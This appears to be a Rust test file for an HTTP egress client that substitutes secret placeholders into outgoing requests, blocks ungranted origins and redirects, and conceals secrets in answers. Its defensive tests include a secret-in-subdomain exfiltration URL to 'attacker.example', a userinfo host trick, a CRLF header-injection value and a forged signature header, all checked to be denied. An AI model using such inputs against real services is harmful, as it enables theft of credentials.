//! Real servers on free ports of this machine.
//!
//! Length: one server and one set of helpers serve every case.

use super::*;
use crate::ports::SecretError;
use mainstay_domain::{
    blob::Blob,
    effect::{HttpMethod, HttpSigning},
    name::SecretName,
    signature::signature,
};
use parking_lot::Mutex;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

mod alerts;

/// `token` is `hunter22`.
struct OneSecret;

impl Secrets for OneSecret {
    fn value(&self, name: &SecretName) -> Result<String, SecretError> {
        match name.as_str() {
            "token" => Ok("hunter22".to_owned()),
            _ => Err(SecretError::Unknown(name.clone())),
        }
    }

    fn conceal(&self, bytes: Vec<u8>) -> Vec<u8> {
        String::from_utf8_lossy(&bytes)
            .replace("hunter22", "[secret:token]")
            .into_bytes()
    }
}

/// Those of a call that may use two secrets, one of which has no value.
fn handles() -> Arc<SecretHandles> {
    let names = ["token", "none"].map(|name| SecretName::parse(name).unwrap());
    Arc::new(SecretHandles::draw(&[7; 32], &names.into()))
}

/// What the guest of that call sees of an operator's text.
fn seen(text: &str) -> String {
    let seen = handles().put_into(&text.into());
    seen.as_str().unwrap().to_owned()
}

/// Answers every request with what `answer` makes of it, and closes the connection; an empty answer closes at once.
struct Server {
    origin: HttpOrigin,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Server {
    async fn start(answer: impl Fn(&str) -> String + Send + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&heard);
        tokio::spawn(async move {
            loop {
                let (mut stream, _) = listener.accept().await.unwrap();
                let request = read_request(&mut stream).await;
                log.lock().push(request.clone());
                let _ = stream.write_all(answer(&request).as_bytes()).await;
            }
        });
        let origin = HttpOrigin {
            scheme: "http".to_owned(),
            host: "127.0.0.1".to_owned(),
            port,
        };
        Self { origin, heard }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.origin.port)
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().clone()
    }
}

async fn read_request(stream: &mut tokio::net::TcpStream) -> String {
    let mut text = String::new();
    let mut chunk = [0; 4_096];
    loop {
        let count = stream.read(&mut chunk).await.unwrap();
        text.push_str(std::str::from_utf8(&chunk[..count]).unwrap());
        let Some((head, body)) = text.split_once("\r\n\r\n") else {
            assert!(count > 0, "{text}");
            continue;
        };
        let length = head
            .lines()
            .find_map(|line| line.strip_prefix("content-length: "));
        if body.len() >= length.map_or(0, |length| length.parse().unwrap()) {
            return text;
        }
    }
}

fn ok(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    )
}

fn redirect(status: u16, location: &str) -> String {
    format!(
        "HTTP/1.1 {status} R\r\nlocation: {location}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    )
}

fn request(method: HttpMethod, url: String) -> HttpRequest {
    HttpRequest {
        method,
        url,
        headers: Vec::new(),
        body: Blob::default(),
        timeout_ms: None,
        signing: None,
    }
}

fn headers(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(name, value)| (name.to_string(), value.to_string()))
        .collect()
}

async fn send_bounded(
    request: HttpRequest,
    granted: &[&HttpOrigin],
    timeout: Duration,
    max_bytes: u64,
) -> Result<HttpResponse, EffectError> {
    send_within(request, granted, timeout, AnswerBound::Whole(max_bytes)).await
}

async fn send_within(
    request: HttpRequest,
    granted: &[&HttpOrigin],
    timeout: Duration,
    bound: AnswerBound,
) -> Result<HttpResponse, EffectError> {
    let client = EgressClient::new(Arc::new(OneSecret)).unwrap();
    let granted = granted.iter().map(|origin| (*origin).clone()).collect();
    client
        .send(
            request,
            granted,
            handles(),
            Some("op-1/3".to_owned()),
            timeout,
            bound,
        )
        .await
}

async fn send(request: HttpRequest, granted: &[&HttpOrigin]) -> Result<HttpResponse, EffectError> {
    send_bounded(request, granted, Duration::from_secs(20), 10_000).await
}

#[tokio::test]
async fn secrets_go_in_at_egress_and_come_out_of_the_answer() {
    let server =
        Server::start(|request| ok(request).replacen("\r\n", "\r\nx-echo: <hunter22>\r\n", 1))
            .await;
    let token = seen("${secret:token}");
    let mut request = request(HttpMethod::Post, server.url(&format!("/a?t={token}")));
    request.headers = headers(&[
        ("Authorization", format!("Bearer {token}").as_str()),
        ("X-Two", "1"),
        ("x-two", "2"),
    ]);
    request.body = format!("{{\"token\":\"{token}\"}}").into_bytes().into();
    let response = send(request, &[&server.origin]).await.unwrap();
    let heard = server.heard().remove(0);
    for part in [
        "POST /a?t=hunter22 HTTP/1.1\r\n",
        "\r\nauthorization: Bearer hunter22\r\n",
        "\r\nx-two: 1\r\n",
        "\r\nx-two: 2\r\n",
        "\r\nidempotency-key: op-1/3\r\n",
        "\r\nuser-agent: mainstay/",
        "\r\n\r\n{\"token\":\"hunter22\"}",
    ] {
        assert!(heard.contains(part), "{part} is not in {heard}");
    }
    assert!(
        response
            .headers
            .contains(&("x-echo".to_owned(), "<[secret:token]>".to_owned()))
    );
    let body = String::from_utf8(response.body.0).unwrap();
    assert!(
        body.contains("/a?t=[secret:token]") && !body.contains("hunter22"),
        "{body}"
    );
}

#[tokio::test]
async fn the_guests_own_idempotency_key_stays() {
    let server = Server::start(|_| ok("")).await;
    let mut request = request(HttpMethod::Put, server.url("/"));
    request.headers = headers(&[("Idempotency-Key", "mine")]);
    send(request, &[&server.origin]).await.unwrap();
    let heard = server.heard().remove(0);
    assert!(
        heard.contains("idempotency-key: mine") && !heard.contains("op-1/3"),
        "{heard}"
    );
}

#[tokio::test]
async fn what_is_not_granted_is_denied_and_nothing_is_sent() {
    let server = Server::start(|_| ok("")).await;
    let mut https = server.origin.clone();
    https.scheme = "https".to_owned();
    let mut other_port = server.origin.clone();
    other_port.port = 1;
    let error = send(
        request(HttpMethod::Get, server.url("/")),
        &[&https, &other_port],
    )
    .await
    .unwrap_err();
    assert!(
        matches!(&error, EffectError::Denied(why) if why.contains(&server.url("/"))),
        "{error}"
    );
    // A secret as a part of the address is told to nobody, not even to a name server.
    let written = "http://${secret:token}.attacker.example/";
    let sneaky = request(HttpMethod::Get, seen(written));
    let error = send(sneaky, &[&server.origin]).await.unwrap_err();
    assert!(
        matches!(&error, EffectError::Denied(why) if why.contains(written)),
        "{error}"
    );
    assert!(!error.to_string().contains("hunter22"), "{error}");
    let userinfo = request(
        HttpMethod::Get,
        format!("http://127.0.0.1:{}@elsewhere.example/", server.origin.port),
    );
    assert!(matches!(
        send(userinfo, &[&server.origin]).await,
        Err(EffectError::Denied(_))
    ));
    assert_eq!(server.heard(), [""; 0]);
}

#[tokio::test]
async fn headers_of_the_host_are_denied_and_broken_ones_fail() {
    let server = Server::start(|_| ok("")).await;
    for (name, value, denied) in [
        ("Host", "internal", true),
        ("transfer-encoding", "chunked", true),
        ("Content-Length", "5", true),
        ("a b", "c", false),
        ("x", "a\r\nb: c", false),
        ("x", "${secret:none}", false),
    ] {
        let mut request = request(HttpMethod::Get, server.url("/"));
        request.headers = headers(&[(name, seen(value).as_str())]);
        let error = send(request, &[&server.origin]).await.unwrap_err();
        let as_expected = match denied {
            true => matches!(error, EffectError::Denied(_)),
            false => matches!(error, EffectError::Failed(_)),
        };
        assert!(as_expected, "{name}: {error}");
    }
    assert_eq!(server.heard(), [""; 0]);
}

#[tokio::test]
async fn the_name_of_a_secret_is_sent_as_the_text_that_it_is() {
    let server = Server::start(|_| ok("")).await;
    // Its own, one that nobody has, what is no name, and what does not end.
    let text = "${secret:token}${secret:nosuch}${secret:A}${secret:";
    let mut request = request(HttpMethod::Post, server.url(&format!("/?t={text}")));
    request.headers = headers(&[("x-text", text)]);
    request.body = text.as_bytes().to_vec().into();
    send(request, &[&server.origin]).await.unwrap();
    let heard = server.heard().remove(0);
    for part in [
        format!("POST /?t={text} HTTP/1.1\r\n"),
        format!("\r\nx-text: {text}\r\n"),
        format!("\r\n\r\n{text}"),
    ] {
        assert!(heard.contains(&part), "{part} is not in {heard}");
    }
    assert!(!heard.contains("hunter22"), "{heard}");
}

#[tokio::test]
async fn a_handle_of_another_call_is_sent_as_the_text_that_it_is() {
    let server = Server::start(|_| ok("")).await;
    let token = SecretName::parse("token").unwrap();
    let earlier = SecretHandles::draw(&[8; 32], &[token].into());
    let earlier = earlier.put_into(&"${secret:token}".into());
    let earlier = earlier.as_str().unwrap();
    let mut request = request(HttpMethod::Post, server.url("/"));
    request.body = earlier.as_bytes().to_vec().into();
    send(request, &[&server.origin]).await.unwrap();
    let heard = server.heard().remove(0);
    assert!(heard.ends_with(earlier), "{heard}");
}

#[tokio::test]
async fn a_redirect_is_followed_within_the_grant_only() {
    let inner = Server::start(|_| ok("arrived")).await;
    let target = inner.url("/next?hunter");
    let outer = Server::start(move |_| redirect(307, &target)).await;
    let mut request = request(HttpMethod::Post, outer.url("/"));
    request.headers = headers(&[
        ("authorization", "Basic abc"),
        ("cookie", "a=b"),
        ("x-token", seen("${secret:token}").as_str()),
        ("x-plain", "1"),
        ("content-type", "text/plain"),
    ]);
    request.body = b"body".to_vec().into();
    let error = send(request.clone(), &[&outer.origin]).await.unwrap_err();
    let shown = format!("http://127.0.0.1:{}", inner.origin.port);
    assert!(
        matches!(&error, EffectError::Denied(why) if why.contains(&shown)),
        "{error}"
    );
    assert!(!error.to_string().contains("hunter22"), "{error}");
    assert_eq!(inner.heard(), [""; 0]);

    let response = send(request, &[&outer.origin, &inner.origin])
        .await
        .unwrap();
    assert_eq!(response.body.0, b"arrived");
    let heard = inner.heard().remove(0);
    assert!(
        heard.starts_with("POST /next?hunter ") && heard.ends_with("\r\n\r\nbody"),
        "{heard}"
    );
    assert!(
        heard.contains("x-plain: 1") && heard.contains("content-type: text/plain"),
        "{heard}"
    );
    for credential in ["authorization", "cookie", "x-token"] {
        assert!(!heard.contains(credential), "{credential} in {heard}");
    }
}

/// Denied because of a secret in `carrier`, and told to nobody; with both origins granted.
async fn check_withheld(request: HttpRequest, outer: &Server, inner: &Server, carrier: &str) {
    let error = send(request, &[&outer.origin, &inner.origin])
        .await
        .unwrap_err();
    let shown = format!("http://127.0.0.1:{}", inner.origin.port);
    let words = [carrier, shown.as_str(), "no grant lets a secret follow"];
    let told = |why: &str| words.iter().all(|word| why.contains(word));
    assert!(
        matches!(&error, EffectError::Denied(why) if told(why)),
        "{carrier}: {error}"
    );
    assert!(!error.to_string().contains("hunter22"), "{error}");
    assert_eq!(inner.heard(), [""; 0], "{carrier}");
}

#[tokio::test]
async fn no_secret_in_a_body_follows_a_redirect_to_another_granted_origin() {
    for (status, method) in [
        (307, HttpMethod::Post),
        (308, HttpMethod::Post),
        (307, HttpMethod::Put),
        (301, HttpMethod::Put),
        (302, HttpMethod::Patch),
    ] {
        let inner = Server::start(|_| ok("arrived")).await;
        let target = inner.url("/next");
        // By way of its own origin first.
        let outer = Server::start(move |request| match request.contains(" /first ") {
            true => redirect(307, "/second"),
            false => redirect(status, &target),
        })
        .await;
        for path in ["/first", "/second"] {
            let mut request = request(method, outer.url(path));
            request.body = seen("{\"token\":\"${secret:token}\"}").into_bytes().into();
            check_withheld(request, &outer, &inner, "its body").await;
        }
    }
}

#[tokio::test]
async fn a_redirect_that_would_drop_the_body_is_the_answer_and_nothing_follows() {
    for status in [301, 302, 303] {
        let inner = Server::start(|_| ok("arrived")).await;
        let target = inner.url("/next");
        let pointed = target.clone();
        let outer = Server::start(move |_| redirect(status, &target)).await;
        let mut request = request(HttpMethod::Post, outer.url("/"));
        request.body = seen("${secret:token}").into_bytes().into();
        let answered = send(request, &[&outer.origin, &inner.origin])
            .await
            .unwrap();
        assert_eq!(answered.status, status);
        assert!(
            answered.headers.contains(&("location".to_owned(), pointed)),
            "{answered:?}"
        );
        assert!(inner.heard().is_empty(), "{status}: {:?}", inner.heard());
    }
}

#[tokio::test]
async fn no_secret_of_an_address_follows_a_redirect_to_another_granted_origin() {
    let inner = Server::start(|_| ok("arrived")).await;
    let other = inner.url("");
    // As a server that moved to https: it repeats path and query.
    let outer = Server::start(move |request| {
        let path = request.split(' ').nth(1).unwrap();
        redirect(308, &format!("{other}{path}"))
    })
    .await;
    let request = request(HttpMethod::Get, outer.url(&seen("/a?t=${secret:token}")));
    check_withheld(request, &outer, &inner, "the address").await;
}

/// A secret that nothing but its own encoding keeps in its place.
struct Awkward;

impl Secrets for Awkward {
    fn value(&self, _: &SecretName) -> Result<String, SecretError> {
        Ok("a b&c=\"d\"/e?f#g%41\nh".to_owned())
    }

    fn conceal(&self, bytes: Vec<u8>) -> Vec<u8> {
        bytes
    }
}

async fn send_awkward(request: HttpRequest, server: &Server) -> Result<HttpResponse, EffectError> {
    let client = EgressClient::new(Arc::new(Awkward)).unwrap();
    let granted = vec![server.origin.clone()];
    let timeout = Duration::from_secs(20);
    client
        .send(
            request,
            granted,
            handles(),
            None,
            timeout,
            AnswerBound::Whole(10_000),
        )
        .await
}

#[tokio::test]
async fn a_secret_stays_in_the_part_of_the_request_that_it_is_put_into() {
    let server = Server::start(|_| ok("")).await;
    let token = seen("${secret:token}");
    let encoded = "a%20b%26c%3D%22d%22%2Fe%3Ff%23g%2541%0Ah";
    let escaped = r#"a b&c=\"d\"/e?f#g%41\nh"#;
    for (content_type, body, arrives) in [
        (
            "application/json",
            format!("{{\"token\":\"{token}\"}}"),
            format!("{{\"token\":\"{escaped}\"}}"),
        ),
        (
            "application/x-www-form-urlencoded",
            format!("a={token}&b=1"),
            format!("a={encoded}&b=1"),
        ),
    ] {
        let url = server.url(&format!("/p/{token}/q?t={token}&u=1"));
        let mut request = request(HttpMethod::Post, url);
        request.headers = headers(&[("Content-Type", content_type)]);
        request.body = body.into_bytes().into();
        send_awkward(request, &server).await.unwrap();
        let heard = server.heard().pop().unwrap();
        let line = format!("POST /p/{encoded}/q?t={encoded}&u=1 HTTP/1.1\r\n");
        assert!(heard.starts_with(&line), "{heard}");
        assert!(heard.ends_with(&format!("\r\n\r\n{arrives}")), "{heard}");
    }
    let mut request = request(HttpMethod::Get, server.url("/"));
    request.headers = headers(&[("x-token", token.as_str())]);
    let error = send_awkward(request, &server).await.unwrap_err();
    assert!(
        matches!(&error, EffectError::Failed(why) if why.contains("`x-token`: the secret `token` has a control")),
        "{error}"
    );
    assert!(!error.to_string().contains("b&c"), "{error}");
    assert_eq!(server.heard().len(), 2);
}

#[tokio::test]
async fn who_sends_a_secret_is_answered_in_plain() {
    let server = Server::start(|_| ok("")).await;
    for (value, accepts) in [("${secret:token}", "identity"), ("plain", "gzip")] {
        let mut request = request(HttpMethod::Get, server.url("/"));
        let value = seen(value);
        request.headers = headers(&[("Accept-Encoding", "gzip"), ("x-token", value.as_str())]);
        send(request, &[&server.origin]).await.unwrap();
        let heard = server.heard().pop().unwrap();
        let accepted = heard
            .lines()
            .filter(|line| line.starts_with("accept-encoding: "));
        let accepted: Vec<&str> = accepted.collect();
        assert_eq!(accepted, [format!("accept-encoding: {accepts}")]);
    }
}

/// A request answered with this status and another address of the same origin: whether it is sent there, and as it was,
/// or the redirect is the answer.
async fn check_followed(method: HttpMethod, status: u16, is_followed: bool) {
    let server = Server::start(move |request| {
        if request.contains(" /first ") {
            redirect(status, "second")
        } else {
            ok("")
        }
    })
    .await;
    let mut request = request(method, server.url("/first"));
    request.headers = headers(&[("authorization", "a"), ("content-type", "text/plain")]);
    request.body = b"body".to_vec().into();
    let answer = send(request, &[&server.origin]).await.unwrap();
    let heard = server.heard();
    if !is_followed {
        assert_eq!((answer.status, heard.len()), (status, 1), "{heard:?}");
        return;
    }
    assert_eq!(answer.status, 200, "{method:?} {status}");
    let sent = heard[0].replacen(" /first ", " /second ", 1);
    assert_eq!(heard[1], sent, "{method:?} {status}");
    assert!(sent.starts_with(method.as_str()), "{sent}");
    assert!(sent.ends_with("body"), "{sent}");
}

#[tokio::test]
async fn a_redirect_keeps_method_and_body_or_is_the_answer() {
    for status in [301, 302, 303] {
        check_followed(HttpMethod::Post, status, false).await;
        check_followed(HttpMethod::Get, status, true).await;
    }
    for status in [307, 308] {
        check_followed(HttpMethod::Post, status, true).await;
        check_followed(HttpMethod::Put, status, true).await;
    }
    check_followed(HttpMethod::Put, 302, true).await;
    check_followed(HttpMethod::Put, 303, false).await;
    check_followed(HttpMethod::Delete, 303, false).await;
}

#[tokio::test]
async fn a_redirect_is_no_place_for_secrets_and_has_an_end() {
    // Not even where the server knows the handle.
    let location = format!("/again?${{secret:token}}&{}", seen("${secret:token}"));
    let server = Server::start(move |_| redirect(302, &location)).await;
    let error = send(request(HttpMethod::Get, server.url("/")), &[&server.origin])
        .await
        .unwrap_err();
    assert!(
        matches!(&error, EffectError::Failed(why) if why.contains("more than 5")),
        "{error}"
    );
    let heard = server.heard();
    assert_eq!(heard.len(), 6);
    assert!(
        heard.iter().all(|request| !request.contains("hunter22")),
        "{heard:?}"
    );
    // Without an address it is an answer like any other.
    let bare = Server::start(|_| "HTTP/1.1 302 R\r\ncontent-length: 0\r\n\r\n".to_owned()).await;
    let response = send(request(HttpMethod::Get, bare.url("/")), &[&bare.origin])
        .await
        .unwrap();
    assert_eq!(response.status, 302);
}

#[tokio::test]
async fn an_answer_is_bounded() {
    let server = Server::start(|_| ok(&"x".repeat(5_000))).await;
    let get = || request(HttpMethod::Get, server.url("/"));
    let long = send_bounded(get(), &[&server.origin], Duration::from_secs(20), 4_999).await;
    assert!(
        matches!(&long, Err(EffectError::Limited(why)) if why.contains("4999")),
        "{long:?}"
    );
    // Its headers count too.
    let exact = send_bounded(get(), &[&server.origin], Duration::from_secs(20), 5_100).await;
    assert_eq!(exact.unwrap().body.0.len(), 5_000);
}

#[tokio::test]
async fn where_the_status_decides_a_body_is_cut_and_never_an_error() {
    let cut = |answer: String, timeout: Duration| async move {
        let server = Server::start(move |_| answer.clone()).await;
        let post = request(HttpMethod::Post, server.url("/"));
        send_within(post, &[&server.origin], timeout, AnswerBound::Cut(5_000)).await
    };
    let busy = |body: &str, length: usize| {
        format!("HTTP/1.1 503 Busy\r\nretry-after: 7\r\ncontent-length: {length}\r\n\r\n{body}")
    };
    let minute = Duration::from_secs(60);
    // A secret that the bound cuts in two is not shown in part.
    let echoed = format!("{}hunter22{}", "x".repeat(4_960), "y".repeat(2 << 20));
    let answer = cut(busy(&echoed, echoed.len()), minute).await.unwrap();
    assert_eq!(answer.status, 503);
    let of_headers: usize = answer.headers.iter().map(|(n, v)| n.len() + v.len()).sum();
    assert_eq!(of_headers + answer.body.0.len(), 5_000);
    let text = String::from_utf8_lossy(&answer.body.0).into_owned();
    assert!(
        text.starts_with("xxx") && !text.contains("hunter"),
        "{text}"
    );
    assert!(
        answer
            .headers
            .contains(&("retry-after".to_owned(), "7".to_owned()))
    );
    // Shorter ones are whole.
    let answer = cut(busy("soon hunter22", 13), minute).await.unwrap();
    assert_eq!(answer.body.0, b"soon [secret:token]");
    // It breaks off.
    let answer = cut(busy("so", 13), minute).await.unwrap();
    assert_eq!(answer.status, 503);
}

#[tokio::test]
async fn where_the_status_decides_a_body_without_an_end_does_not_hide_it() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let origin = HttpOrigin {
        scheme: "http".to_owned(),
        host: "127.0.0.1".to_owned(),
        port,
    };
    tokio::spawn(async move {
        let (mut stream, _) = listener.accept().await.unwrap();
        read_request(&mut stream).await;
        let head = "HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\nsome";
        stream.write_all(head.as_bytes()).await.unwrap();
        // It stays open until the client goes.
        let _ = stream.read(&mut [0; 1]).await;
    });
    let url = format!("http://127.0.0.1:{port}/");
    let post = request(HttpMethod::Post, url);
    let timeout = Duration::from_secs(2);
    let answer = send_within(post, &[&origin], timeout, AnswerBound::Cut(5_000)).await;
    assert_eq!(answer.unwrap().status, 200);
}

#[tokio::test]
async fn only_what_was_certainly_not_sent_is_unavailable() {
    let closed = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = closed.local_addr().unwrap().port();
    let origin = HttpOrigin {
        scheme: "http".to_owned(),
        host: "127.0.0.1".to_owned(),
        port,
    };
    // Bound and never accepted: it connects, and no answer comes.
    let written = format!("http://127.0.0.1:{port}/?${{secret:token}}");
    let url = seen(&written);
    let granted = [&origin];
    let silent = send_bounded(
        request(HttpMethod::Post, url.clone()),
        &granted,
        Duration::from_millis(300),
        100,
    );
    let error = silent.await.unwrap_err();
    assert!(
        matches!(&error, EffectError::TimedOut(why) if why.contains("300ms") && why.contains(&written)),
        "{error}"
    );
    drop(closed);
    let error = send(request(HttpMethod::Post, url), &[&origin])
        .await
        .unwrap_err();
    assert!(
        matches!(&error, EffectError::Unavailable(why) if why.contains("refused") && why.contains(&written)),
        "{error}"
    );
    assert!(!error.to_string().contains("hunter22"), "{error}");
    for answer in [
        "",
        "HTTP/1.1 200 OK\r\ncontent-length: 50\r\n\r\ncut",
        "nonsense\r\n\r\n",
    ] {
        let server = Server::start(|_| answer.to_owned()).await;
        let error = send(
            request(HttpMethod::Post, server.url("/")),
            &[&server.origin],
        )
        .await
        .unwrap_err();
        assert!(
            matches!(error, EffectError::TimedOut(_)),
            "{answer}: {error}"
        );
    }
}

#[test]
fn origins_are_written_as_grants_write_them() {
    for (url, scheme, host, port) in [
        ("https://Hooks.Example/x", "https", "hooks.example", 443),
        ("http://[::1]:8080/", "http", "::1", 8080),
        ("http://127.1/", "http", "127.0.0.1", 80),
    ] {
        let found = origin(&Url::parse(url).unwrap()).unwrap();
        assert_eq!(
            (found.scheme.as_str(), found.host.as_str(), found.port),
            (scheme, host, port)
        );
    }
    assert_eq!(origin(&Url::parse("mailto:x@y.example").unwrap()), None);
}

#[tokio::test]
async fn a_request_is_signed_with_a_secret_of_the_call_and_the_guest_cannot_write_the_header_itself()
 {
    let server = Server::start(ok).await;
    let mut request = request(HttpMethod::Post, server.url("/a"));
    request.headers = headers(&[("X-Signature", "t=1,v1=forged")]);
    request.body = b"{\"a\":1}".to_vec().into();
    request.signing = Some(HttpSigning {
        secret: seen("${secret:token}"),
        header: "X-Signature".to_owned(),
    });
    send(request, &[&server.origin]).await.unwrap();
    let heard = server.heard().remove(0);
    let signatures: Vec<&str> = heard
        .lines()
        .filter_map(|line| line.strip_prefix("x-signature: "))
        .collect();
    let [found] = signatures[..] else {
        panic!("{heard}")
    };
    let (seconds, _) = found
        .strip_prefix("t=")
        .and_then(|rest| rest.split_once(','))
        .unwrap();
    let seconds = seconds.parse().unwrap();
    assert_eq!(found, signature(b"hunter22", seconds, b"{\"a\":1}"));
    assert!(!heard.contains("hunter22"), "{heard}");
}

#[tokio::test]
async fn nothing_is_signed_with_what_is_no_handle_of_the_call_or_into_a_header_of_the_host() {
    let server = Server::start(ok).await;
    let other_call = SecretHandles::draw(&[8; 32], &[SecretName::parse("token").unwrap()].into());
    let other_call = other_call.put_into(&"${secret:token}".into());
    let good = seen("${secret:token}");
    for (secret, header) in [
        ("hunter22", "x-signature"),
        ("", "x-signature"),
        ("${secret:token}", "x-signature"),
        (format!("a{good}").as_str(), "x-signature"),
        (other_call.as_str().unwrap(), "x-signature"),
        (good.as_str(), "host"),
    ] {
        let mut request = request(HttpMethod::Post, server.url("/a"));
        request.signing = Some(HttpSigning {
            secret: secret.to_owned(),
            header: header.to_owned(),
        });
        let denied = send(request, &[&server.origin]).await.unwrap_err();
        assert!(matches!(denied, EffectError::Denied(_)), "{denied}");
        assert!(!denied.to_string().contains(&good), "{denied}");
    }
    assert_eq!(server.heard().len(), 0);
}
